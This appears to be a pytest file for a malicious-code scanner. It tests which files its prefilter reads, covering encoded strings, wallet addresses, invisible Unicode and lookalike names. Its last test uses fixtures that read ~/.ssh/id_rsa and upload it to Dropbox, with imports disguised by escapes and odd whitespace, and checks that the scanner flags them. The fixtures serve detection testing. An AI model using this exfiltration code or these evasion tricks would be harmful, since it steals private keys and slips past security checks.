"""The first pass over a source passes over nothing that the engine knows as a source or a sink."""

import pytest

from sekisho.inspection.findings import Sink, Source
from sekisho.inspection.languages.ir import UNSEEN
from sekisho.inspection.languages.javascript_calls import JAVASCRIPT
from sekisho.inspection.languages.knowledge import WAITING, Knowledge
from sekisho.inspection.languages.mentions import handed_on
from sekisho.inspection.languages.python_calls import PYTHON
from sekisho.inspection.languages.tampering import ADDRESS
from sekisho.inspection.prefilter import worth_reading
from support.inspection import Files, inspected

_ELSEWHERE = {"sys.path.insert", "sys.path.append", "pandas.query"}
"""What takes a value in the same source only, where that has a word of its own."""

_HARMLESS_ALONE = {Source.FILE}
"""A file that is read matters only beside a sink, and that has a word of its own."""


def telling(knowledge: Knowledge) -> list[str]:
    named = [
        symbol
        for symbol, role in knowledge.roles.items()
        if (role.sink not in {None, Sink.SEND}) or (role.source is not None and role.source not in _HARMLESS_ALONE)
    ]
    return named + [f"{root}.{next(iter(family))}" for root, family in knowledge.families.items()]


def written(symbol: str, knowledge: Knowledge) -> str:
    """How a program would have to write it, at the least."""
    name = symbol.removeprefix(knowledge.prefix)
    if knowledge is PYTHON:
        module, _, last = name.rpartition(".")
        return f"from {module} import {last} as x\n" if module else f"x = {name}\n"
    root = name.partition(".")[0]
    if symbol == "global.import":
        return "x = import(y);\n"
    return f"x = {name};\n" if symbol.startswith("global.") else f'const x = require("{root}");\n'


@pytest.mark.parametrize("symbol", telling(PYTHON))
def test_python_words_are_enough(symbol: str) -> None:
    if symbol in _ELSEWHERE or UNSEEN in symbol or WAITING in symbol:
        return
    if symbol in {"operator.xor", "numpy.load"}:  # an operator; and harmless without `allow_pickle`, a word of its own
        return
    assert worth_reading(written(symbol, PYTHON).encode(), "python")


@pytest.mark.parametrize("symbol", telling(JAVASCRIPT))
def test_javascript_words_are_enough(symbol: str) -> None:
    if symbol in {"operator.xor", "eval", "_eval"} or UNSEEN in symbol or WAITING in symbol:
        return
    assert worth_reading(written(symbol, JAVASCRIPT).encode(), "javascript")


@pytest.mark.parametrize("symbol", [each for each in telling(JAVASCRIPT) if not each.startswith("global.")])
def test_javascript_words_are_enough_where_a_module_is_imported(symbol: str) -> None:
    root = next((each for each in JAVASCRIPT.families if symbol.startswith(f"{each}.")), symbol.partition(".")[0])
    rest = symbol.removeprefix(root).strip(".")
    known = JAVASCRIPT.role(symbol)
    if known is not None and known.special == "visited":  # what a visitor asks goes where a sink is, which has words
        return
    if symbol in {"operator.xor", "eval", "_eval", "$.get"} or UNSEEN in symbol or WAITING in symbol:
        return
    name, _, last = rest.partition(".")
    written = f'import {{ {name or "x"} }} from "{root}";\n' + (f"{name}.{last}(y);\n" if last else "")
    assert worth_reading(written.encode(), "javascript")


@pytest.mark.parametrize("taken", ["getattr(types, 'Func' + n)", "operator.attrgetter('sys' + n)(os)"])
def test_a_name_that_is_put_together_is_looked_for_by_what_takes_it(taken: str) -> None:
    assert worth_reading(f"x = {taken}\n".encode(), "python")


@pytest.mark.parametrize(
    "text",
    [
        "types.MappingProxyType({})\n",
        "# Čeněk wrote this\nx = 1\n",
        "x = re.compile('a')\n",
        "def execute(self, request): return self.template\n",
    ],
)
def test_ordinary_words_are_passed_over(text: str) -> None:
    assert not worth_reading(text.encode(), "python")


@pytest.mark.parametrize("text", ["68656c6c6f20776f726c642068656c6c", "68656C6C6F20776F726C642068656C6C",
                                  "cHJpbnQoMSkgcHJpbnQoMik5"])  # fmt: skip
@pytest.mark.parametrize("quote", ["'", '"'])
def test_text_that_another_file_may_decode_is_read(text: str, quote: str) -> None:
    """What wakes a statement of a file that is read must not lie in one that is not."""
    assert handed_on(text)
    for language in ("python", "javascript"):
        assert worth_reading(f"data = {quote}{text}{quote}\n".encode(), language)
        assert not worth_reading(f"data = {quote}{text[:23]}{quote}\n".encode(), language)


@pytest.mark.parametrize("payee", ["0x" + "aB" * 20, "bc1" + "q" * 39, "1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
                                   "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8"])  # fmt: skip
def test_an_address_that_may_take_the_place_of_another_is_read(payee: str) -> None:
    """What `tampering` goes by must not lie in a file that is passed over."""
    assert ADDRESS.fullmatch(payee)
    assert worth_reading(f"to = '{payee}'\n".encode(), "javascript")


def test_letters_that_nobody_sees_are_read() -> None:
    assert worth_reading(f"x = '{chr(0xE0153) * 4}'\n".encode(), "python")


def test_a_name_in_other_letters_is_read() -> None:
    assert worth_reading("\uff45\uff58\uff45\uff43('1')\n".encode(), "python")
    assert worth_reading(b"ev\\u0061l('1')\n", "javascript")


OUT = {  # a claim: a helper without any other telling word, and how the library that takes things out gets into it
    "two blanks": ("out.py", "import  dropbox\n"),
    "a tab": ("out.py", "import\tdropbox\n"),
    "after a comma": ("out.py", "import json,dropbox\n"),
    "on the next line": ("out.py", "import json, \\\n  dropbox\n"),
    "as something else": ("out.py", "import dropbox as dropbox\n"),
    "written with escapes": ("out.mjs", 'import { Dropbox } from "drop\\x62ox";\n'),
}
HELPERS = {
    "out.py": "def put(what):\n    dropbox.Dropbox('t').files_upload(what, '/k')\n",
    "out.mjs": "export const put = (what) => new Dropbox({ key: 't' }).filesUpload({ path: '/k', contents: what });\n",
}
STARTS = {
    "run.py": "import os\nfrom out import put\nput(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
    "run.mjs": "import { put } from './out.mjs';\nimport fs from 'fs';\nimport os from 'os';\n"
               "put(fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));\n",
}  # fmt: skip


@pytest.mark.parametrize(("name", "begins"), OUT.values(), ids=OUT.keys())
def test_a_library_that_takes_things_out_is_known_however_it_is_imported(name: str, begins: str) -> None:
    files: Files = {name: begins + HELPERS[name], **{n: t for n, t in STARTS.items() if n[-3:] == name[-3:]}}
    found = inspected(files)
    assert [chain.rule for chain in found.chains] == ["secrets_sent"]
